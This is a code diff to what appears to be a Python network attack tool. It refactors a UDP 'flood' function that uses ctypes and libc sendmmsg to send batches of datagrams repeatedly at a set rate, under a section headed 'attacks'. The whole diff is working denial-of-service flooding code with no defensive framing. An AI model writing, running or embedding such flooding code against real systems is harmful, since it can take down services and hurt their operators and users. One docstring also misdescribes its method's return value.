@@ -123,6 +123,9 @@ class Client:
 
 # ---- attacks ------------------------------------------------------------------------------------
 
+LIBC = ctypes.CDLL(None, use_errno=True)
+
+
 class Iovec(ctypes.Structure):
     _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
 
@@ -138,20 +141,30 @@ class Mmsghdr(ctypes.Structure):
     _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]
 
 
+class Batch:
+    """Datagrams that one call sends."""
+
+    def __init__(self, datagrams):
+        self.iovecs = (Iovec * len(datagrams))(*(Iovec(d, len(d)) for d in datagrams))
+        self.headers = (Mmsghdr * len(datagrams))()
+        for header, iovec in zip(self.headers, self.iovecs):
+            header.hdr.iov, header.hdr.iovlen = ctypes.pointer(iovec), 1
+
+    def send(self, sock):
+        """How many left; none where there is no room."""
+        return max(LIBC.sendmmsg(sock.fileno(), self.headers, len(self.headers), 0), 0)
+
+
 def flood(sock, datagrams, rate):
     """Sends the datagrams over and over, many by one call."""
-    libc = ctypes.CDLL(None, use_errno=True)
-    iovecs = (Iovec * len(datagrams))(*(Iovec(d, len(d)) for d in datagrams))
-    headers = (Mmsghdr * len(datagrams))()
-    for header, iovec in zip(headers, iovecs):
-        header.hdr.iov, header.hdr.iovlen = ctypes.pointer(iovec), 1
+    batch = Batch(datagrams)
     start, sent = time.monotonic(), 0
     while True:
         due = int((time.monotonic() - start) * rate) - sent
         if due < len(datagrams):
             time.sleep(0.0005)
             continue
-        sent += max(libc.sendmmsg(sock.fileno(), headers, len(datagrams), 0), 0)
+        sent += batch.send(sock)
         if due > rate / 10:
             # The machine does not give more: no debt.
             start, sent = time.monotonic(), 0
